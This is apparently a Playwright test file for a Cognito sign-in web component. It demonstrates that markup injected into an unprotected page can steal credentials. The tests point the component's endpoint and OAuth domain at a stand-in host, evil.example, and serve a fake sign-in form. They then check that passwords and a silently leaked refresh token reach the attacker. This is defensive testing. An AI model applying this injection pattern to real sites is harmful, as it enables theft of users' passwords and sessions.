import assert from 'node:assert/strict';
import { afterEach, beforeEach, describe, it } from 'node:test';
import { decodeJwt } from 'jose';
import type { Page } from 'playwright-core';
import { PASSWORD } from '../../demo/cognito/index.js';
import { fieldsOf, parseJson, textOf } from '../../src/cognito/json.js';
import { post, tokensIn } from '../local-cognito/support/protocol.js';
import { APP } from '../support/demo.js';
import { setDemoStage } from '../support/demo-stage.js';
import { injectMarkup } from '../support/injected-markup.js';
import { Person } from '../support/person.js';
import { until } from '../support/until.js';

const EVIL = 'https://evil.example';
const POOL = { userPoolId: 'us-east-1_Example1', userPoolClientId: 'abc123' };

/** A page of the attacker that looks like the sign-in pages. */
const FAKE = `<form method="post" action="/login">
  <label>Username or email <input name="username"></label>
  <label>Password <input name="password" type="password"></label>
  <button>Sign in</button>
</form>`;

/**
 * Controls for row 34 of the attacks (see test/client/federation/attacks.node.test.ts): the markup that ours refuses, in
 * injected-markup.test.ts and redirect-places.test.ts, does harm in a page whose element believes it.
 */
describe('Markup that was injected into a page without protection', () => {
  const stage = setDemoStage();
  let page: Page;
  let person: Person;
  /** What was sent to the attacker: bodies of requests. */
  let sent: string[];

  beforeEach(async () => {
    const context = await stage.browser.newContext();
    page = await context.newPage();
    person = new Person(page);
    sent = [];
    await page.route(`${EVIL}/**`, (route) => {
      const body = route.request().postData();
      if (body !== null) sent.push(body);
      const headers = { 'access-control-allow-origin': '*', 'access-control-allow-headers': '*' };
      const isPage = route.request().isNavigationRequest();
      return route.fulfill({
        headers,
        contentType: isPage ? 'text/html' : 'application/json',
        body: isPage ? FAKE : '{}',
      });
    });
    const config = { ...POOL, userPoolEndpoint: stage.demo.cognito.endpoint };
    await person.opens(stage.demo.page('naive', { config: JSON.stringify(config) }));
    await person.isAt('Sign in');
  });
  afterEach(() => page.context().close());

  /** The same pool and app client, elsewhere. */
  const inject = (attributes: Readonly<Record<string, string>> = {}) => {
    const oauth = { domain: EVIL, redirectSignIn: page.url() };
    const config = JSON.stringify({ ...POOL, userPoolEndpoint: `${EVIL}/`, oauth });
    return injectMarkup(page, { tags: ['naive-authenticator'], attributes: { config, ...attributes } });
  };

  const received = async (): Promise<string> => {
    await until(() => sent.length > 0, { what: 'the attacker receives something' });
    return sent.join();
  };

  it('gets the password that a user types into its form', async () => {
    const injected = await inject();
    await injected.getByLabel('Username').fill('jane');
    await injected.getByLabel('Password').fill(PASSWORD);
    await injected.getByRole('button', { name: 'Sign in', exact: true }).click();
    const { AuthParameters } = fieldsOf(parseJson(await received()));
    assert.deepEqual(AuthParameters, { USERNAME: 'jane', PASSWORD });
  });

  it('gets the session of a user who is signed in, hidden, and without anything that they do', async () => {
    await person.signsIn('jane', PASSWORD);
    await person.reads(APP);
    assert.deepEqual(sent, []);
    await inject({ hidden: '' });
    const refreshToken = textOf(fieldsOf(parseJson(await received())), 'RefreshToken') ?? '';
    const request = { ClientId: POOL.userPoolClientId, RefreshToken: refreshToken };
    const tokens = await tokensIn(post(stage.demo.cognito.endpoint, 'GetTokensFromRefreshToken', request));
    assert.equal(decodeJwt(tokens.AccessToken)['username'], 'jane');
  });

  it('leads to sign-in pages of the attacker, who gets the password', async () => {
    const injected = await inject();
    await injected.getByRole('button', { name: 'Sign in on another page' }).click();
    await page.waitForURL(`${EVIL}/oauth2/authorize?**`);
    await page.getByLabel('Username or email').fill('jane');
    await page.getByLabel('Password').fill(PASSWORD);
    await page.getByRole('button', { name: 'Sign in' }).click();
    assert.deepEqual(Object.fromEntries(new URLSearchParams(await received())), {
      username: 'jane',
      password: PASSWORD,
    });
  });
});
